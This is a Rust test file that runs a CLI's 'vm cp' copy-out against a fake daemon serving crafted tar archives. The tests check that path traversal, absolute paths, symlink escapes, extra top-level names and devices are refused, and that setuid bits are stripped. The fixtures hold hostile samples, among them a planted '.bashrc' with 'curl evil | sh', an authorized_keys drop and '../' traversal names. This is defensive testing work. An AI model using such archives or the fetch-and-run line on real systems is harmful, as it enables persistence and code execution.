//! `vm cp` out against a guest that lies: the real CLI copies from a
//! TEST DOUBLE of bangerd (a unix socket answering every request with a
//! crafted archive), which is what a hostile agent's answer looks like
//! to the CLI, since the daemon streams the agent's archive unchanged.
//! Only entries under the name asked for land; another top name, `..`,
//! an absolute path, a write through a link the archive made are each
//! refused in one line with a hint and exit 1, nothing written outside
//! the landing; a set-id file arrives without its bits unless `-a`; an
//! endless stream after the archive or after a refusal ends the copy.

use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use tar::EntryType;

/// One raw entry: names and links as the attacker writes them.
#[derive(Clone, Copy)]
struct Raw<'a> {
    name: &'a str,
    kind: EntryType,
    mode: u32,
    data: &'a [u8],
    link: &'a str,
}

fn file<'a>(name: &'a str, data: &'a [u8]) -> Raw<'a> {
    Raw {
        name,
        kind: EntryType::Regular,
        mode: 0o644,
        data,
        link: "",
    }
}

fn dir(name: &str) -> Raw<'_> {
    Raw {
        name,
        kind: EntryType::Directory,
        mode: 0o755,
        data: b"",
        link: "",
    }
}

fn archive(entries: &[Raw]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for entry in entries {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(entry.kind);
        header.set_mode(entry.mode);
        header.set_uid(0);
        header.set_gid(0);
        header.set_size(entry.data.len() as u64);
        let raw = header.as_old_mut();
        raw.name[..entry.name.len()].copy_from_slice(entry.name.as_bytes());
        raw.linkname[..entry.link.len()].copy_from_slice(entry.link.as_bytes());
        header.set_cksum();
        builder.append(&header, entry.data).unwrap();
    }
    builder.into_inner().unwrap()
}

/// The double: answers each connection's request with `body` (chunked),
/// then, if `endless`, with garbage until the client goes or 60 s pass.
fn serve(socket: &Path, body: Vec<u8>, endless: bool) {
    let listener = UnixListener::bind(socket).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                line.clear();
            }
            let chunk = |out: &mut dyn Write, data: &[u8]| -> std::io::Result<()> {
                write!(out, "{:x}\r\n", data.len())?;
                out.write_all(data)?;
                out.write_all(b"\r\n")
            };
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/x-tar\r\ntransfer-encoding: chunked\r\n\r\n",
            );
            let _ = chunk(&mut stream, &body);
            let until = Instant::now() + Duration::from_secs(60);
            while endless && Instant::now() < until {
                if chunk(&mut stream, &[0x5a; 65536]).is_err() {
                    break;
                }
            }
            let _ = stream.write_all(b"0\r\n\r\n");
        }
    });
}

/// The real CLI, `vm cp web:/tmp/report DEST [-a]`, with a deadline:
/// (exit code, stderr).
fn copy_out(socket: &Path, dest: &Path, archive_flag: bool) -> (i32, String) {
    let mut command = Command::new(env!("CARGO_BIN_EXE_banger"));
    command
        .arg("--socket")
        .arg(socket)
        .args(["vm", "cp", "web:/tmp/report"])
        .arg(dest)
        .env("NO_COLOR", "1")
        .stdout(Stdio::null())
        .stderr(Stdio::piped());
    if archive_flag {
        command.arg("-a");
    }
    let mut child = command.spawn().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            panic!("the cli did not end within 30 s");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut stderr = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
    (status.code().unwrap_or(-1), stderr)
}

/// A case's place: `outer/dest` (an empty directory) inside `outer`.
fn places(root: &Path, case: &str) -> (PathBuf, PathBuf, PathBuf) {
    let outer = root.join(case);
    let dest = outer.join("dest");
    std::fs::create_dir_all(&dest).unwrap();
    (outer.join("bangerd.sock"), outer, dest)
}

fn names(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn only_the_name_asked_for_lands() {
    let root = tempfile::tempdir().unwrap();
    let outside = root.path().join("refused-case-escape");
    let outside_text = outside.display().to_string();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "another-name",
            archive(&[file(".bashrc", b"curl evil | sh\n")]),
            ".bashrc is outside report",
        ),
        (
            "second-top",
            archive(&[
                file("report", b"ok\n"),
                file("authorized_keys", b"ssh-ed25519 x\n"),
            ]),
            "authorized_keys is outside report",
        ),
        (
            "dot-dot",
            archive(&[
                dir("report"),
                file("report/../../../refused-case-escape", b"x"),
            ]),
            "leaves the copied tree",
        ),
        (
            "absolute",
            archive(&[file(&outside_text, b"x")]),
            "leaves the copied tree",
        ),
        (
            "through-a-link",
            archive(&[
                dir("report"),
                Raw {
                    name: "report/l",
                    kind: EntryType::Symlink,
                    mode: 0o777,
                    data: b"",
                    link: root.path().to_str().unwrap(),
                },
                file("report/l/refused-case-escape", b"x"),
            ]),
            "nothing is written through it",
        ),
        (
            "a-device",
            archive(&[Raw {
                name: "report",
                kind: EntryType::Char,
                mode: 0o666,
                data: b"",
                link: "",
            }]),
            "hard links and devices are not copied",
        ),
    ];
    for (case, body, why) in cases {
        let (socket, outer, dest) = places(root.path(), case);
        serve(&socket, body, false);
        let (code, stderr) = copy_out(&socket, &dest, false);
        assert_eq!(code, 1, "{case}: {stderr}");
        let lines: Vec<&str> = stderr.lines().collect();
        assert_eq!(
            lines.len(),
            2,
            "{case}: one error line and a hint: {stderr}"
        );
        assert!(
            lines[0].starts_with("error: refused what web sent for /tmp/report: ")
                && lines[0].contains(why),
            "{case}: {stderr}"
        );
        assert!(lines[1].starts_with("hint: "), "{case}: {stderr}");
        assert_eq!(names(&outer), ["bangerd.sock", "dest"], "{case}");
        let landed = names(&dest);
        assert!(
            landed.is_empty() || landed == ["report"],
            "{case}: only the name asked for lands: {landed:?}"
        );
        assert!(!outside.exists(), "{case}: written outside the landing");
    }
}

#[test]
fn set_id_bits_arrive_only_with_archive_mode() {
    if banger_testkit::require(
        nix::unistd::geteuid().is_root(),
        "a set-id root file is only made by root",
    )
    .is_none()
    {
        return;
    }
    let root = tempfile::tempdir().unwrap();
    let setuid = Raw {
        mode: 0o4755,
        ..file("report", b"#!/bin/sh\nid\n")
    };
    for (case, keep, want) in [("plain", false, 0o755), ("archive", true, 0o4755)] {
        let (socket, _, dest) = places(root.path(), case);
        serve(&socket, archive(&[setuid]), false);
        let (code, stderr) = copy_out(&socket, &dest, keep);
        assert_eq!(code, 0, "{case}: {stderr}");
        let mode = std::fs::metadata(dest.join("report"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o7777, want, "{case}");
    }
}

#[test]
fn an_endless_stream_ends_the_copy() {
    let root = tempfile::tempdir().unwrap();
    // After a whole archive: the copy ends with what was asked for.
    let (socket, _, dest) = places(root.path(), "after-the-archive");
    serve(&socket, archive(&[file("report", b"done\n")]), true);
    let (code, stderr) = copy_out(&socket, &dest, false);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        std::fs::read_to_string(dest.join("report")).unwrap(),
        "done\n"
    );
    // After a refused entry: the copy ends refused, without reading on.
    let (socket, _, dest) = places(root.path(), "after-a-refusal");
    serve(&socket, archive(&[file("other", b"x")]), true);
    let (code, stderr) = copy_out(&socket, &dest, false);
    assert_eq!(code, 1, "{stderr}");
    assert!(names(&dest).is_empty());
}
